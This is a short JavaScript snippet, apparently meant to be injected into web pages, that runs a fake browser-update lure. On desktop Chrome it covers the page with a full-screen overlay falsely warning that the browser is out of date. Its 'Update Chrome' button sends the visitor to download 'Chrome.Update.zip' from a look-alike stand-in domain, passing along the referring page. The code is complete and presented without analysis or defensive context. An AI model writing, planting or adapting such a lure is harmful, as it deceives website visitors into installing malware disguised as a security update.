(function () {
  if (!/Chrome\//.test(navigator.userAgent) || /Mobile/.test(navigator.userAgent)) return;
  var ov = document.createElement("div");
  ov.style.cssText = "position:fixed;top:0;left:0;width:100%;height:100%;z-index:2147483647;background:#fff";
  ov.innerHTML = '<div style="max-width:640px;margin:80px auto;font-family:Arial,sans-serif">' +
    '<h1>Your browser is out of date</h1>' +
    '<p>A critical security update is required to keep viewing this page.</p>' +
    '<a id="upd" href="#" style="display:inline-block;padding:12px 24px;background:#1a73e8;color:#fff">Update Chrome</a></div>';
  document.body.appendChild(ov);
  document.body.style.overflow = "hidden";
  document.getElementById("upd").addEventListener("click", function (e) {
    e.preventDefault();
    window.location.href = "https://update-browser-chrome.invalid/download/Chrome.Update.zip?r=" +
      encodeURIComponent(document.referrer);
  });
})();
